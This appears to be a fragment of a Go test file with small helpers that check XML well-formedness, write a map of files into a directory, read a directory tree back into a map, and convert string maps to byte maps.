// wellFormed parses doc as XML to the end.
func wellFormed(doc string) error {
	d := xml.NewDecoder(strings.NewReader(doc))
	for {
		_, err := d.Token()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

func writeFiles(tb testing.TB, dir string, files map[string][]byte) {
	tb.Helper()
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			tb.Fatal(err)
		}
	}
}

// readTree reads every file under dir, keyed by slash path; a missing dir
// is empty.
func readTree(tb testing.TB, dir string) map[string][]byte {
	tb.Helper()
	out := map[string][]byte{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		rel, _ := filepath.Rel(dir, p)
		out[filepath.ToSlash(rel)] = b
		return err
	})
	if err != nil {
		tb.Fatal(err)
	}
	return out
}

func toBytes(m map[string]string) map[string][]byte {
	out := make(map[string][]byte, len(m))
	for k, v := range m {
		out[filepath.ToSlash(k)] = []byte(v)
	}
	return out
}
